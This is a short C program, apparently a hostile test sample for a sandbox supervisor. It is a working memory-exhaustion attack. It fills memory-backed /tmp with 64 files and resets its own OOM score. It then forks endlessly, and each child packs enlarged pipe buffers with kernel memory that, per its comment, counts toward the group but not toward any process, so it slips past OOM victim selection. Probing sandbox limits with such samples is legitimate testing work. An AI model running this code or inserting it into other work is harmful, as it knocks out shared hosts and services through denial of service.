// Fills /tmp, which is memory, and then swarms with processes that are each smaller than the supervisor and have given
// up being the preferred victims.
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
int main() {
    static char page[1 << 16];
    int adj = open("/proc/self/oom_score_adj", O_WRONLY);
    write(adj, "0", 1);
    for (int file = 0; file < 64; file++) {
        char name[] = "/tmp/a";
        name[5] = (char)('A' + file);
        int fd = open(name, O_CREAT | O_WRONLY, 0600);
        for (int i = 0; i < 16; i++) write(fd, page, sizeof page);
    }
    for (;;) {
        if (fork() == 0) {
            for (;;) {
                // Kernel memory, which counts for the group but for no process.
                int ends[2];
                if (pipe(ends) == 0) {
                    fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
                    fcntl(ends[1], F_SETFL, O_NONBLOCK);
                    while (write(ends[1], page, sizeof page) > 0) continue;
                } else pause();
            }
        }
    }
}
